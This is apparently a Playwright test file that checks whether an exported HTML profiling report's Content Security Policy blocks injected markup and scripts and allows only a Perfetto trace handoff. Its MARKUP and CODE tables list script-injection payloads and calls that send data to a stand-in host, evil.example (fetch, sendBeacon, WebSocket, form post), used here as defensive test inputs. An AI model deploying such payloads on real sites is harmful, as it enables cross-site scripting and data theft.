"""What the HTML file may do: show the report, and, if it was exported so, hand its trace to Perfetto. Nothing else."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from amount import sampled
from driver import open_tab, screenshot
from fake_perfetto import ADDRESS, FakePerfetto, given_trace
from gpu_trace import write_gpu_trace
from playwright.sync_api import Browser, Locator, Route, expect
from polars.testing import assert_frame_equal

import torchprof_magic as tp

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
"""
EVIL = "https://evil.example"
# What a hostile text could be in the file itself, and the directive that stops it.
MARKUP = {
    "an inline script": ("script-src-elem", "<script>window.__pwned = 1</script>"),
    "a module script": ("script-src-elem", "<script type=module>window.__pwned = 1</script>"),
    "a script from elsewhere": ("script-src-elem", f"<script src={EVIL}/a.js></script>"),
    "a data: script": ("script-src-elem", "<script src=data:text/javascript,window.__pwned=1></script>"),
    "an inline handler": ("script-src-attr", "<svg onload='window.__pwned = 1'></svg>"),
    "an image": ("img-src", f"<img src={EVIL}/a.png>"),
    "a data: image": ("img-src", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>"),
    "a base address": ("base-uri", f"<base href={EVIL}/>"),
    "a frame": ("frame-src", f"<iframe src={EVIL}></iframe>"),
    "a plugin": ("object-src", f"<object data={EVIL}/a.pdf></object>"),
    "a film": ("media-src", f"<video src={EVIL}/a.mp4></video>"),
    "a style sheet from elsewhere": ("style-src-elem", f"<link rel=stylesheet href={EVIL}/a.css>"),
    "an inline style sheet": ("style-src-elem", "<style>body { background: red }</style>"),
    "an inline style": ("style-src-attr", "<p style='background: red'>"),
    "a preload": ("script-src-elem", f"<link rel=modulepreload href={EVIL}/a.js>"),
}
# What a hostile script could do, if there were one.
CODE = {
    "an inline script": ("require-trusted-types-for", "add('script', { text: 'window.__pwned = 1' })"),
    "a script from elsewhere": ("require-trusted-types-for", f"add('script', {{ src: '{EVIL}/a.js' }})"),
    "a script from a blob": (
        "script-src-elem",
        "import(URL.createObjectURL(new Blob(['window.__pwned = 1'], { type: 'text/javascript' })))",
    ),
    "an inline handler": ("require-trusted-types-for", "add('b', {}).setAttribute('onclick', 'window.__pwned = 1')"),
    "a javascript: link": ("script-src-elem", "add('a', { href: 'javascript:window.__pwned = 1' }).click()"),
    "code from a text": ("require-trusted-types-for", "(0, eval)('window.__pwned = 1')"),
    "a timer with a text": ("require-trusted-types-for", "setTimeout('window.__pwned = 1')"),
    "markup from a text": ("require-trusted-types-for", "add('p', { innerHTML: '<img src=x>' })"),
    "a policy that trusts texts": ("trusted-types", "trustedTypes.createPolicy('default', { createHTML: (t) => t })"),
    "a form": ("form-action", f"add('form', {{ action: '{EVIL}', method: 'post' }}).submit()"),
    "a fetch": ("connect-src", f"fetch('{EVIL}')"),
    "a beacon": ("connect-src", f"navigator.sendBeacon('{EVIL}', 'a')"),
    "a socket": ("connect-src", "new WebSocket('wss://evil.example')"),
    "events from elsewhere": ("connect-src", f"new EventSource('{EVIL}')"),
    "an image": ("img-src", f"Object.assign(new Image(), {{ src: '{EVIL}/a.png' }})"),
    "a font": ("font-src", f"new FontFace('evil', 'url({EVIL}/a.woff2)').load()"),
    "a worker": ("require-trusted-types-for", "new Worker(URL.createObjectURL(new Blob([''])))"),
    "a frame with a page of its own": ("require-trusted-types-for", "add('iframe', { srcdoc: '<script>1</script>' })"),
}
# The pause ends what the developer tools are allowed beyond the page.
RUN = """async () => {
  const add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
  await new Promise((resolve) => setTimeout(resolve));
  try { await %s; } catch {}
}"""


class Opened:
    """An HTML file in a browser, with everything that it complained about and asked for."""

    def __init__(self, browser: Browser, file: Path) -> None:
        self.context = browser.new_context(viewport={"width": 1100, "height": 760})
        self.context.add_init_script(WATCH)
        # What the policy stops is announced as a request, too, but never gets as far as a route.
        self.requests: list[str] = []
        self.context.route(re.compile("^(?!file:|blob:)"), self._stop)
        self.perfetto = FakePerfetto(self.context)
        self.complaints: list[str] = []
        self.page = self.context.new_page()
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.file = file.as_uri()
        self.page.goto(self.file)

    def _stop(self, route: Route) -> None:
        self.requests.append(route.request.url)
        route.abort()

    @property
    def report(self) -> Locator:
        shown = self.page.locator('.tp-report[data-tp-ready="true"]')
        shown.wait_for()
        return shown

    @property
    def violations(self) -> list[str]:
        return self.page.evaluate("violations")

    def open_every_view(self) -> list[str]:
        names = self.page.eval_on_selector_all("[data-tp-tab]", "all => all.map((tab) => tab.dataset.tpTab)")
        for name in names:
            open_tab(self.report, name)
            expect(self.page.locator(".tp-panel")).to_be_visible()
        return names


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> tp.Report:
    return tp.load(write_gpu_trace(tmp_path_factory.mktemp("gpu") / "gpu.json"))


@pytest.fixture(scope="module")
def files(report: tp.Report, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("files")
    return {
        "plain": report.to_html(folder / "plain.html"),
        "perfetto": report.to_html(folder / "perfetto.html", perfetto=True),
    }


@pytest.fixture
def opened(browser: Browser, files: dict[str, Path], request: pytest.FixtureRequest) -> Iterator[Opened]:
    found = Opened(browser, files[getattr(request, "param", "plain")])
    yield found
    found.context.close()


both = pytest.mark.parametrize("opened", ["plain", "perfetto"], indirect=True)
for_perfetto = pytest.mark.parametrize("opened", ["perfetto"], indirect=True)


def policy_of(file: Path) -> str:
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', file.read_text("utf-8"))
    assert found
    return found[1]


def test_the_policy_lets_in_two_scripts_and_a_style_sheet_by_hash_and_is_not_widened_for_perfetto(
    files: dict[str, Path],
) -> None:
    digest = r"'sha256-[A-Za-z0-9+/]{43}='"
    assert re.fullmatch(
        f"default-src 'none'; script-src {digest} {digest}; style-src {digest}; object-src 'none'; base-uri 'none'; "
        "form-action 'none'; require-trusted-types-for 'script'; trusted-types 'none'",
        policy_of(files["plain"]),
    )
    assert policy_of(files["perfetto"]) == policy_of(files["plain"])


@both
def test_every_view_works_without_a_violation_a_complaint_or_a_request(opened: Opened) -> None:
    assert opened.report
    assert {"overview", "timeline", "ops", "flame", "memory"} <= set(opened.open_every_view())
    opened.page.keyboard.press("?")
    opened.page.locator("[data-tp-tab=ops]").click()
    with opened.page.expect_download():
        opened.page.get_by_role("button", name="Columns").click()
        opened.page.get_by_text("Save as CSV").click()
    assert opened.violations == []
    assert opened.complaints == []
    assert opened.requests == opened.perfetto.requests == []


@pytest.mark.parametrize("attack", sampled(list(MARKUP)))
def test_markup_that_got_into_the_file_does_nothing(
    browser: Browser, files: dict[str, Path], tmp_path: Path, attack: str
) -> None:
    directive, markup = MARKUP[attack]
    text = files["plain"].read_text("utf-8")
    (tmp_path / "attacked.html").write_text(text.replace("</noscript>", f"</noscript>{markup}"), encoding="utf-8")
    opened = Opened(browser, tmp_path / "attacked.html")
    assert opened.report
    opened.page.wait_for_function("() => violations.length > 0")
    assert_nothing_happened(opened, directive)
    opened.context.close()


@pytest.mark.parametrize("attack", sampled(list(CODE)))
def test_a_script_that_got_into_the_page_makes_no_request_and_no_other_script(opened: Opened, attack: str) -> None:
    assert opened.report
    directive, code = CODE[attack]
    opened.page.evaluate(RUN % code)
    opened.page.wait_for_function("() => violations.length > 0")
    assert_nothing_happened(opened, directive)


def assert_nothing_happened(opened: Opened, directive: str) -> None:
    assert set(opened.violations) == {directive}
    assert opened.page.evaluate("window.__pwned") is None
    assert opened.page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert opened.page.evaluate("document.baseURI") == opened.page.url == opened.file
    assert opened.requests == opened.perfetto.requests == []


def test_a_file_whose_script_was_changed_does_not_run_it(browser: Browser, files: dict[str, Path]) -> None:
    text = files["plain"].read_text("utf-8")
    start = text.rindex('<script type="module">') + len('<script type="module">')
    changed = files["plain"].with_name("changed.html")
    changed.write_text(f"{text[:start]}window.__pwned = 1;{text[start:]}", encoding="utf-8")
    opened = Opened(browser, changed)
    expect(opened.page.locator("#report pre")).to_contain_text("could not be shown: its script did not run.")
    assert opened.page.evaluate("window.__pwned") is None
    assert opened.violations == ["script-src-elem"]
    opened.context.close()


def test_a_plain_file_holds_no_trace_offers_no_export_and_cannot_open_a_window(
    opened: Opened, files: dict[str, Path]
) -> None:
    assert opened.report
    assert 'id="trace"' not in files["plain"].read_text("utf-8")
    expect(opened.page.get_by_role("button", name="Export")).to_have_count(0)
    tries = ("open", "self.open", "Window.prototype.open", "globalThis['open']")
    for name in tries:
        assert opened.page.evaluate(f"() => {name}?.('{ADDRESS}') ?? null") is None
    opened.page.evaluate("() => { try { window.open = () => 1 } catch {} delete window.open }")
    assert opened.page.evaluate(f"() => window.open('{ADDRESS}')") is None
    assert len(opened.context.pages) == 1
    assert opened.perfetto.requests == []


@for_perfetto
def test_a_file_exported_so_hands_its_trace_to_perfetto_on_one_click(
    opened: Opened, report: tp.Report, tmp_path: Path
) -> None:
    assert opened.report
    opened.open_every_view()
    opened.page.get_by_role("button", name="Export").click()
    entry = opened.page.locator(".tp-export .tp-menu button", has_text="Open in Perfetto")
    expect(entry).to_contain_text("opens ui.perfetto.dev")
    screenshot(opened.page, "file-export-menu")
    assert opened.perfetto.requests == []
    with opened.context.expect_page() as popup:
        entry.click()
    given = given_trace(popup.value, tmp_path / "given.json.gz")
    assert given["keys"] == ["buffer", "title", "fileName"]
    assert given["title"] == "gpu.json"
    assert given["fileName"] == f"torchprof-{report.run_id}.json.gz"
    assert_frame_equal(tp.load(tmp_path / "given.json.gz").kernels, report.kernels)
    assert opened.perfetto.requests == [f"{ADDRESS}/"]
    expect(opened.page.locator(".tp-export [role=status]")).to_be_empty()
    assert opened.violations == []
    assert opened.complaints == []


@for_perfetto
def test_a_file_exported_so_saves_the_trace_too(opened: Opened, report: tp.Report, tmp_path: Path) -> None:
    assert opened.report
    opened.page.get_by_role("button", name="Export").click()
    with opened.page.expect_download() as download:
        opened.page.get_by_text("Chrome trace (.json.gz)").click()
    assert download.value.suggested_filename == f"torchprof-{report.run_id}.json.gz"
    download.value.save_as(tmp_path / "saved.json.gz")
    assert_frame_equal(tp.load(tmp_path / "saved.json.gz").kernels, report.kernels)


@for_perfetto
def test_a_blocked_window_is_said_with_what_to_do_instead(opened: Opened) -> None:
    assert opened.report
    opened.page.evaluate("() => { window.open = () => null }")
    opened.page.get_by_role("button", name="Export").click()
    opened.page.get_by_text("Open in Perfetto").click()
    status = opened.page.locator(".tp-export [role=status]")
    expect(status).to_contain_text("Allow pop-ups for this page and try again.")
    screenshot(opened.page, "file-perfetto-blocked")
    opened.page.get_by_role("button", name="Close").click()
    expect(status).to_be_empty()
    assert opened.perfetto.requests == []


@for_perfetto
def test_a_window_that_never_answers_is_said_and_stays_open(opened: Opened) -> None:
    assert opened.report
    opened.context.unroute_all()
    opened.context.route(f"{ADDRESS}/**", lambda route: route.fulfill(body="<!DOCTYPE html><p>a page of a proxy"))
    opened.page.clock.install()
    opened.page.get_by_role("button", name="Export").click()
    with opened.context.expect_page() as popup:
        opened.page.get_by_text("Open in Perfetto").click()
    expect(popup.value.locator("p")).to_be_visible()
    status = opened.page.locator(".tp-export [role=status]")
    expect(status).to_have_text("Opening Perfetto…")
    opened.page.clock.fast_forward(30_000)
    expect(status).to_contain_text("ui.perfetto.dev did not answer")
    assert not popup.value.is_closed()
